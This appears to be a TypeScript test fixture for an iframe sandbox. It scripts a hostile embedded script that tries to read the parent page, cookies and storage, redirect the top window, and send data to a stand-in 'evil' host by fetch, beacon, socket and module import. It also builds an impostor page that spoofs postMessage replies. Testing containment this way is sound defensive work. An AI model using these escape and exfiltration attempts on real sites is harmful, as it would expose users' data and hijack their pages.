import { callOf } from '../engines/in-page.js';

/**
 * What a script of the API would try from inside the sealed frame, and how each
 * attempt ended, told to the page around it. Runs as that script: only its
 * source travels.
 */
async function attack(evil: string): Promise<void> {
  const outcomes: Record<string, string> = {};
  const tried = async (name: string, act: () => unknown): Promise<void> => {
    const late = new Promise((resolve) => setTimeout(resolve, 400, 'nothing came'));
    try {
      const got = await Promise.race([act(), late]);
      outcomes[name] = `got ${String(got)}`;
    } catch (error) {
      outcomes[name] = (error as Error).name;
    }
  };
  const link = (target: string) => () => {
    const anchor = document.createElement('a');
    anchor.href = `${evil}/link`;
    anchor.target = target;
    document.body.append(anchor);
    anchor.click();
    return 'clicked';
  };
  const loaded = (tag: 'img' | 'iframe' | 'script' | 'link') => () =>
    new Promise((resolve, reject) => {
      const element = document.createElement(tag);
      element.addEventListener('load', () => {
        resolve('loaded');
      });
      element.addEventListener('error', () => {
        reject(new DOMException('refused', 'NetworkError'));
      });
      Object.assign(element, { src: `${evil}/${tag}`, rel: 'stylesheet', href: `${evil}/${tag}` });
      document.head.append(element);
    });
  await tried('the page’s document', () => parent.document.title);
  await tried('the page’s variables', () => (parent as unknown as { sdk: unknown }).sdk);
  await tried('the top’s address', () => top?.location.href);
  await tried('cookies', () => Reflect.get(document, 'cookie'));
  await tried('localStorage', () => localStorage.length);
  await tried('sessionStorage', () => sessionStorage.length);
  await tried('indexedDB', () => indexedDB.open('x').readyState);
  await tried('service workers', () => navigator.serviceWorker.register(`${evil}/worker.js`));
  await tried('a worker', () => new Worker(`${evil}/worker.js`).onmessage);
  await tried('a popup', () => open(`${evil}/popup`));
  await tried('the page’s place', () => {
    if (parent !== self) parent.location.href = `${evil}/top`;
    return 'set';
  });
  await tried('a link for the top', link('_top'));
  await tried('a link for a new tab', link('_blank'));
  await tried('a form', () => {
    const form = Object.assign(document.createElement('form'), { action: `${evil}/form` });
    form.target = '_top';
    document.body.append(form);
    form.submit();
    return 'sent';
  });
  await tried('fetch', () => fetch(`${evil}/fetch`, { mode: 'no-cors' }).then(() => 'fetched'));
  await tried('fetch of the API', () => fetch('https://learningcircles.p2pu.org/api/courses/'));
  await tried('a beacon', () => navigator['sendBeacon'](`${evil}/beacon`));
  await tried('a socket', () => new WebSocket(evil.replace('https', 'wss')).onmessage);
  await tried('an image', loaded('img'));
  await tried('a script', loaded('script'));
  await tried('a style sheet', loaded('link'));
  await tried('a frame', loaded('iframe'));
  await tried('eval', () => (0, eval)('"evaluated"'));
  await tried('a module', () => import(`${evil}/module.js`));
  await tried('what its referrer is', () => document.referrer);
  await tried('what its origin is', () => origin);
  await tried('the microphone', () => navigator.mediaDevices.getUserMedia({ audio: true }));
  await tried(
    'where the visitor is',
    () =>
      new Promise((found, refused) => {
        navigator.geolocation.getCurrentPosition(found, () => {
          refused(new DOMException('', 'Denied'));
        });
      }),
  );
  parent.postMessage({ outcomes }, '*');
}

/** The attack as a script, which then lets the page wait. */
export const attackFor = (evil: string): string => `${callOf(attack, evil)};`;

/** A script that leaves with its frame, to a place that speaks as the frame did. */
export const leaveFor = (address: string): string => `location.href = ${JSON.stringify(address)};`;

/** A page that says whatever a frame may say, and tells on whoever answers it. */
export const impostor = (tellTale: string): string => `<!doctype html><script>
  const tell = (what) => fetch(${JSON.stringify(tellTale)} + '?' + what, { mode: 'no-cors' });
  addEventListener('message', ({ data, ports }) => {
    tell('heard-' + (data && data.circlet));
    for (const port of ports) {
      port.onmessage = () => tell('asked');
      for (let id = 0; id < 50; id++) port.postMessage({ id, status: 200, body: '{"count":0,"items":[]}' });
    }
  });
  tell('arrived');
  for (const word of ['hello', 'ping', 'port']) parent.postMessage({ circlet: word }, '*');
  setInterval(() => parent.postMessage({ circlet: 'hello' }, '*'), 20);
</script>`;
